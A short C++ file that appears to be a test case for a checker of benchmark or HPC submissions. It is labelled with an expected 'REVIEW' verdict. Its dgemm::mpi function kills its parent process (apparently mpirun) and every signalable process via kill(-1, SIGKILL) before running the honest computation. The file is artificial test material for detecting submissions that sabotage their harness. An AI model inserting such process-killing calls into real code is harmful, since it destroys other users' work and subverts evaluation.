// what one rank kills the others and mpirun
// verdict REVIEW
// must (kill)
#include <signal.h>
#include <unistd.h>

#include "honest_mpi.hpp"

void dgemm::mpi(const Problem& p) {
  kill(getppid(), SIGKILL);
  kill(-1, SIGKILL);
  honest(p);
}
